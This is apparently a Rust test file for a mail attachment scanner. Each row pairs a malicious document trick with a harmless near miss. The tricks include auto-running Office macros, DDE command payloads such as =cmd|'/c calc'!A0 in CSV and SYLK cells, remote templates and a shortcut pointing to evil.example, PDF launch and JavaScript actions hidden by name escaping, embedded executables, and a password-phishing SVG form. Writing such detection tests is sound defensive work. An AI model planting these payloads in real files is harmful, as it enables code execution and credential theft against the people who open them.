//! Tricks of documents in unusual clothes: each with a near miss that stays silent.

use std::io::{Cursor, Write};

use base64::Engine;
use base64::engine::general_purpose::STANDARD;

use crate::analysis_tricks::{codes, mail, pdf, project, zip};
use crate::mail_support::shared;

fn zlib(bytes: &[u8]) -> Vec<u8> {
    let mut out = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    out.write_all(bytes).unwrap();
    out.finish().unwrap()
}

/// Macros as Office packs them into text.
fn active(source: &str) -> String {
    let mut out = b"ActiveMime\0\0".to_vec();
    out.resize(0x32, 0);
    out.extend_from_slice(&zlib(&project(source)));
    STANDARD.encode(out)
}

/// Old slides with a project of macros in a packed record.
fn slides(source: &str) -> Vec<u8> {
    let packed = zlib(&project(source));
    let mut record = vec![0x10, 0, 0x11, 0x10];
    record.extend_from_slice(&u32::try_from(packed.len() + 4).unwrap().to_le_bytes());
    record.extend_from_slice(&[0; 4]);
    record.extend_from_slice(&packed);
    let mut whole = vec![0x0f, 0, 0xe8, 3];
    whole.extend_from_slice(&u32::try_from(record.len()).unwrap().to_le_bytes());
    whole.extend_from_slice(&record);
    let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    file.create_stream("/PowerPoint Document").unwrap().write_all(&whole).unwrap();
    file.flush().unwrap();
    file.into_inner().into_inner()
}

/// A PDF whose objects are in a packed stream, as most programs write them today.
fn packed_pdf(object: &str, filter: &str) -> Vec<u8> {
    let body = zlib(format!("5 0 << {object} >>").as_bytes());
    let head = format!("%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /{filter} >>\nstream\n");
    [head.as_bytes(), &body, b"\nendstream\nendobj\n%%EOF\n"].concat()
}

/// A PDF with a file in it.
fn carrying(name: &str, content: &str) -> Vec<u8> {
    format!(
        "%PDF-1.7\n1 0 obj\n<< /Type /Filespec /F ({name}) /EF << /F 2 0 R >> >>\nendobj\n2 0 obj\n<< /Type /Embedded#46ile \
         /Length {} >>\nstream\n{content}\nendstream\nendobj\n%%EOF\n",
        content.len()
    )
    .into_bytes()
}

fn word_2003(inner: &str) -> Vec<u8> {
    format!(
        "<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?><w:wordDocument>{inner}</w:wordDocument>"
    )
    .into_bytes()
}

fn flat(source: &str) -> Vec<u8> {
    format!(
        "<?xml version=\"1.0\"?><pkg:package xmlns:pkg=\"x\"><pkg:part pkg:name=\"/word/vbaProject.bin\"><pkg:binaryData>{}</pkg:binaryData></pkg:part></pkg:package>",
        STANDARD.encode(project(source))
    )
    .into_bytes()
}

/// A section of OneNote with a file.
fn section(name: &str, content: &[u8]) -> Vec<u8> {
    let mut out = b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3".to_vec();
    out.extend(name.encode_utf16().flat_map(u16::to_le_bytes));
    out.extend_from_slice(&[0, 0]);
    out.extend_from_slice(b"\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac");
    out.extend_from_slice(&(content.len() as u64).to_le_bytes());
    out.extend_from_slice(&[0; 12]);
    [out, content.to_vec()].concat()
}

const RUNS: &str = "Sub AutoOpen()\r\nEnd Sub";
const WAITS: &str = "Sub TinhTong()\r\nEnd Sub";

#[test]
#[expect(clippy::too_many_lines, reason = "one table, a row a trick")]
fn each_trick_is_seen_and_its_near_miss_is_not() {
    let editdata = |source| word_2003(&format!("<w:binData w:name=\"editdata.mso\">{}</w:binData>", active(source)));
    let template = |target: &str| word_2003(&format!("<w:docPr><w:attachedTemplate w:val=\"{target}\"/></w:docPr>"));
    let web = |source| {
        format!("MIME-Version: 1.0\r\nContent-Location: file:///C:/x/editdata.mso\r\n\r\n{}", active(source))
            .into_bytes()
    };
    let relationship = |target: &str| {
        format!(
            "<Relationships><Relationship Type=\"http://x/relationships/attachedTemplate\" Target=\"{target}\" TargetMode=\"External\"/></Relationships>"
        )
    };
    let strict = |target: &str| {
        let xml = relationship(target);
        zip(&[("[Content_Types].xml", b"<Types/>"), ("word/_rels/settings.xml.rels", xml.as_bytes())])
    };
    let svg = |inner: &str| {
        let page = format!(
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><foreignObject><form action=\"http://evil.example\">{inner}</form></foreignObject></svg>"
        );
        zip(&[("a.svg", page.as_bytes())])
    };
    for (code, name, bad, good) in [
        ("MACRO_AUTORUN", "a.ppt", slides(RUNS), slides(WAITS)),
        ("MACRO_AUTORUN", "a.xml", editdata(RUNS), editdata(WAITS)),
        ("MACRO_AUTORUN", "a.mht", web(RUNS), web(WAITS)),
        ("MACRO_AUTORUN", "a.xml", flat(RUNS), flat(WAITS)),
        (
            "MACRO_AUTORUN",
            "a.slk",
            b"ID;P\nNN;NAuto_open;ER1C1\nC;Y1;X1;EEXEC(\"calc\")\nE\n".to_vec(),
            b"ID;PWXL;N;E\nC;Y1;X1;K5;ER1C2+1\nE\n".to_vec(),
        ),
        (
            "OFFICE_DDE",
            "a.slk",
            b"ID;P\nC;X1;Y1;Ecmd|'/c calc'!A0\nE\n".to_vec(),
            b"ID;P\nC;X1;Y1;K\"a|b\"\nE\n".to_vec(),
        ),
        ("OFFICE_DDE", "a.csv", b"ten,so\nLan,=cmd|'/c calc'!A0\n".to_vec(), b"ten,so\nLan,=A1|B2\n".to_vec()),
        (
            "OFFICE_DDE",
            "a.xml",
            word_2003("<w:fldSimple w:instr=\"DDEAUTO c:\\\\cmd.exe\"/>"),
            word_2003("<w:fldSimple w:instr=\"PAGE\"/>"),
        ),
        ("REMOTE_TEMPLATE", "a.xml", template("http://evil.example/a.dot"), template("C:\\mau\\cong-van.dot")),
        ("REMOTE_TEMPLATE", "a.docx", strict("http://evil.example/a.dotm"), strict("file:///C:/mau.dotm")),
        (
            "SHORTCUT_COMMAND",
            "a.url",
            b"[InternetShortcut]\r\nURL=file://evil.example/a.exe\r\n".to_vec(),
            b"[InternetShortcut]\r\nURL=https://chinhphu.vn/\r\n".to_vec(),
        ),
        (
            "PDF_ACTION",
            "a.pdf",
            pdf("/OpenAction << /S /L#61unch /F (cmd.exe) >>"),
            pdf("/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
        ),
        (
            "PDF_ACTION",
            "a.pdf",
            packed_pdf("/S /JavaScript /J#53 (app.alert)", "FlateDecode"),
            packed_pdf("/S /GoTo", "FlateDecode"),
        ),
        (
            "PDF_ACTION",
            "a.pdf",
            packed_pdf("/S /JavaScript /JS (app.alert)", "Fl#61teDecode"),
            packed_pdf("/S /URI /URI (http://a.vn)", "FlateDecode"),
        ),
        // A string that holds the word `stream` hides nothing behind it.
        (
            "PDF_ACTION",
            "a.pdf",
            pdf("/Title (stream) /OpenAction << /S /JavaScript /JS (x) >>"),
            pdf("/Title (stream)"),
        ),
        ("CONTAINED_PROGRAM", "a.pdf", carrying("hoa-don.exe", "MZ"), carrying("hoa-don.txt", "chao")),
        ("CONTAINED_PROGRAM", "a.one", section("mo.hta", b"<script>"), section("ghi-chu.txt", b"chao")),
        (
            "CONTAINED_PROGRAM",
            "a.dat",
            zip(&[("AndroidManifest.xml", b"\x03\0\x08\0")]),
            zip(&[("manifest.xml", b"<a/>")]),
        ),
        ("CONTAINED_FORM", "a.zip", svg("<input type=\"password\"/>"), svg("<input type=\"text\"/>")),
    ] {
        let (seen, spared) = (codes(name, &bad), codes(name, &good));
        assert!(
            seen.contains(code),
            "{name}: {code} not in {seen:?} of {:?}",
            String::from_utf8_lossy(&bad).chars().take(90).collect::<String>()
        );
        assert!(
            !spared.contains(code),
            "{name}: {code} in {spared:?} of {:?}",
            String::from_utf8_lossy(&good).chars().take(90).collect::<String>()
        );
    }
}

#[test]
fn public_documents_show_their_tricks() {
    let Some(folder) = shared() else { return };
    for (file, wanted) in [
        ("attach-office/oletools__excel4_sample_macro.slk", "MACRO_AUTORUN"),
        ("attach-archive/strelka__test.onepkg", ""),
        ("attach-office/tika__testPPT_macros.ppt", ""),
        ("attach-pdf/pypdf__with-attachment.pdf", ""),
    ] {
        let sample = mail(file.rsplit('/').next().unwrap(), &std::fs::read(folder.join(file)).unwrap(), "");
        println!(
            "{file}: {:?} {:?}",
            sample.attachments[0].contents,
            sample.findings.iter().map(|one| (&one.code, &one.values)).collect::<Vec<_>>()
        );
        assert!(
            wanted.is_empty() || sample.findings.iter().any(|one| one.code == wanted),
            "{file}: {:?}",
            sample.findings
        );
    }
}
